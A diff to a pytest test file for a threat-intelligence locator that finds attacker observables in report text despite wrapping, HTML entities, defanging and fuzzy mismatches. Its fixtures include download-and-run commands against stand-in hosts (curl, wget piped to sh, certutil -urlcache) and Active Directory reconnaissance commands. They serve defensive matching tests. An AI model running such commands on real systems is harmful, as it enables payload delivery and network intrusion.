@@ -1,8 +1,18 @@
+import re
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from ctiforge.observables.locate import FAR_LINEAGE, NEAR_LINEAGE, REGISTRY_APART, Locator, Occurrence, Span
+from ctiforge.observables.locate import (
+    FAR_LINEAGE,
+    NEAR_LINEAGE,
+    REGISTRY_APART,
+    Alignment,
+    Locator,
+    Occurrence,
+    Span,
+)
 from ctiforge.observables.values import normalize
 
 
@@ -58,7 +68,6 @@ NOT_THERE = [
     ("process_lineage", "xcmd.exe -> notnet.exe", "cmd.exe -> net.exe"),
     ("network_indicators", "notevil.com and evil.com.br and www.evil.com", "evil.com"),
     ("registry", "HKLM\\Software\\Xylophone", "HKLM\\Software\\X"),
-    ("cmdline", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "powershell -enc sqbfafgaiaaoae4azqb3ac0atwbiagoa"),
     ("cmdline", "anything", ""),
     ("process_lineage", "a.exe -> b.exe -> c.exe", "a.exe"),
 ]
@@ -194,3 +203,122 @@ def test_the_nearest_passage_always_stands_in_the_text(text: str, type_: str, va
     nearest = Locator(text).nearest(type_, value)
 
     assert nearest is None or nearest in text
+
+
+# quotes, wraps, continued lines, letters of scripts without spaces, entities, defanging: as real texts have them
+ALIGNED = [
+    ("cmdline", 'ran "C:\\W\\net.exe" group "Domain Admins"', "C:\\W\\net.exe group 'Domain Admins'", '"?C.*Admins"?'),
+    ("cmdline", 'x "C:\\A B\\net.exe" use \\\\h\\s', 'C:\\A B\\net.exe" use \\h\\s', "C:.*s"),
+    ("cmdline", "curl http://evil.exam\nple/a/b/c.bin -o x", "curl http://evil.example/a/b/c.bin -o x", "curl.*x"),
+    ("cmdline", "certutil ^\n -urlcache ^\n -f http://a.b/c", "certutil -urlcache -f http://a.b/c", "certutil.*c"),
+    (
+        "cmdline",
+        "Get-ADUser `\n -Filter * `\n -Properties *",
+        "Get-ADUser -Filter * -Properties *",
+        "Get.*Properties \\*",
+    ),
+    ("cmdline", "wget http://a.b/c.sh \\\n && sh c.sh", "wget http://a.b/c.sh && sh c.sh", "wget.*sh"),
+    ("cmdline", "执行whoami /all命令", "whoami /all", "whoami /all"),
+    ("cmdline", "공격자는 cmd.exe를 실행", "cmd.exe", "cmd.exe"),
+    ("services", "サービスEvilSvcを作成", "EvilSvc", "EvilSvc"),
+    ("cmdline", "reg query &#x27;HKLM&#92;A&#x27; &amp;amp; dir", "reg query 'HKLM\\A' & dir", "reg.*dir"),
+    ("cmdline", "nltest &ndash;dclist:corp", "nltest -dclist:corp", "nltest.*corp"),
+    ("cmdline", "ping ―n 4 \u200eevil\u2063.example", "ping -n 4 evil.example", "ping.*example"),
+    ("cmdline", "type re\u0301sume\u0301.txt", "type r\u00e9sum\u00e9.txt", "type.*txt"),
+    ("cmdline", "ｎｅｔ ｕｓｅｒ ／ｄｏｍａｉｎ", "net user /domain", "ｎ.*ｎ"),
+    ("cmdline", "type con\ufb01g.ini", "type config.ini", "type.*ini"),
+    ("cmdline", "echo \\u0041BC \\u2013x", "echo ABC -x", "echo.*x"),
+    ("network_indicators", "at h[tt]p://a[.b/c now", "http://a.b/c", "h\\[tt.*c"),
+    ("network_indicators", "at meow://a.]b/c now", "http://a.b/c", "meow.*c"),
+    ("network_indicators", "at fxp://a.b/c now", "ftp://a.b/c", "fxp.*c"),
+    ("registry", "key HKLM/Software/Classes/x set", "HKLM\\Software\\Classes\\x", "HKLM.*x"),
+    (
+        "registry",
+        "key HKLM\\SYSTEM\\ControlSet001\\Services\\x",
+        "HKLM\\SYSTEM\\CurrentControlSet\\Services\\x",
+        "HKLM.*x",
+    ),
+    ("registry", "\\REGISTRY\\MACHINE\\SOFTWARE\\x is", "HKLM\\SOFTWARE\\x", ".*x"),
+    ("cmdline", "ran nltest /domain_trusts there", "nltest.exe /domain_trusts", "nltest /domain_trusts"),
+]
+
+
+@pytest.mark.parametrize(("type_", "text", "value", "place"), ALIGNED)
+def test_a_value_is_placed_through_what_texts_and_models_change(type_: str, text: str, value: str, place: str) -> None:
+    (found,) = written(text, type_, value)
+
+    assert re.fullmatch(place, found, re.DOTALL)
+
+
+@pytest.mark.parametrize(
+    ("text", "value", "status", "distance"),
+    [
+        ("They ran net user /domain.", "net user /domain", Alignment.EXACT, 0),
+        ("They ran Net  User /domain.", "net user /domain", Alignment.NORMALIZED, 0),
+        ("They ran net user /domain.", 'cmd.exe /c "chcp 65001 > NUL & net user /domain"', Alignment.UNWRAPPED, 0),
+        ("They ran net user /domain.", 'C:\\W\\cmd.exe "/c net user /domain"', Alignment.UNWRAPPED, 0),
+        (
+            "curl -o c:\\programdata\\first.bin http://evil.example/first.bin and",
+            "curl -o c:\\programdata\\first.bin http://evil.example/first.bim",
+            Alignment.FUZZY,
+            1,
+        ),
+        (
+            "curl -o c:\\programdata\\first.bin http://evil.example/first.bin and",
+            "curl -o c:\\programdata\\first.bin http://evil.example/first.b",
+            Alignment.FUZZY,
+            2,
+        ),
+    ],
+)
+def test_a_place_says_how_the_value_stands_there(text: str, value: str, status: Alignment, distance: int) -> None:
+    (found,) = Locator(text).locate("cmdline", value)
+
+    assert (found.status, found.distance) == (status, distance)
+
+
+@pytest.mark.parametrize(
+    ("type_", "text", "value"),
+    [
+        ("services", 'It may impart a sense of urgency, \\"Sensei\\" too', "Sense"),
+        ("cmdline", "the netuser account", "net user"),
+        ("cmdline", "who ami today", "whoami"),
+        ("cmdline", "net localgroup administrators", "net localgroup administrator"),
+        (
+            "cmdline",
+            "adfind -f objectcategory=computer -csv name cn system",
+            "adfind -f objectcategory=computer -csv name system",
+        ),
+        ("cmdline", "dir and whoami", 'cmd.exe /c "dir"'),
+        ("network_indicators", "evil.example2/a/b", "evil.example/a/b"),
+        (
+            "cmdline",
+            "curl -o c:\\programdata\\first.bin http://evil.example/first.bin",
+            "curl -o c:\\programdata\\other.dll http://evil.example/x",
+        ),
+    ],
+)
+def test_a_wrong_place_is_worse_than_none(type_: str, text: str, value: str) -> None:
+    assert written(text, type_, value) == []
+
+
+def test_the_exact_case_wins_over_a_word_of_the_language() -> None:
+    text = 'They impart a sense of urgency. The service \\"Sense\\" stops.'
+
+    assert written(text, "services", "Sense") == ["Sense"]
+    assert Locator(text).locate("services", "Sense")[0].start == text.index("Sense")
+
+
+def test_what_stands_altered_is_placed_and_yet_does_not_stand() -> None:
+    locator = Locator('ran "C:\\W\\net.exe" group "Domain Admins" /domain')
+
+    assert locator.locate("cmdline", "C:\\W\\net.exe group Domain Admins /domain")
+    assert not locator.stands("cmdline", "C:\\W\\net.exe group Domain Admins /domain")
+    assert locator.stands("cmdline", '"C:\\W\\net.exe" group "Domain Admins"')
+
+
+def test_five_megabytes_are_searched_in_one_pass_each() -> None:
+    text = "x y z " * 830_000 + "\ncurl -o c:\\programdata\\first.bin http://evil.example/first.bin\n"
+    found = Locator(text).locate("cmdline", "curl -o c:\\programdata\\first.bin http://evil.example/first.bim")
+
+    assert [each.status for each in found] == [Alignment.FUZZY]
